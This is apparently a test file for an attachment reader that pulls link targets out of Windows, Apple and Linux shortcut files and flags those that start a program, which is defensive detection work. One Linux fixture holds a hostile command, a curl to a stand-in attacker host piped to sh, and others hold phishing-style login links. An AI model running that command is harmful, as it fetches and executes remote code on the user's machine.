import { describe, expect, it } from 'vitest'
import { findOf } from '../../../testkit/src/find.ts'
import { createReaders } from '../host/node.ts'

const readers = createReaders()
const read = (text: string, name: string) => readers.read('shortcut', findOf(new TextEncoder().encode(text), name))

describe('a shortcut', () => {
  it('of Windows shows where it leads', async () => {
    const { links, gaps } = await read('[InternetShortcut]\r\nURL=https://evil.example/login?a=1\r\nIconIndex=0\r\n', 'Amazon.url')
    expect(links).toEqual([{ shown: 'Amazon.url', href: 'https://evil.example/login?a=1', from: 'attachment', at: null }])
    expect(gaps).toEqual([])
  })

  it('of Apple too', async () => {
    const plist = '<?xml version="1.0"?><plist><dict><key>URL</key>\n<string>https://evil.example/?a=1&amp;b=2</string></dict></plist>'
    expect((await read(plist, '銀行.webloc')).links.map(({ href }) => href)).toEqual(['https://evil.example/?a=1&b=2'])
  })

  it('of Linux may run a command', async () => {
    const { traits } = await read('[Desktop Entry]\nType=Application\nName[ja]=請求書\nExec=sh -c "curl evil.example|sh"\n', 'a.desktop')
    expect(traits).toEqual([{ id: 'starts-program', detail: 'sh -c "curl evil.example|sh"' }])
  })

  it('that can’t be read is not taken for clean', async () => {
    const { gaps } = await read('bplist00\u0001\u0002', 'a.webloc')
    expect(gaps).toEqual([{ id: 'attachment-content', detail: '2' }])
  })
})
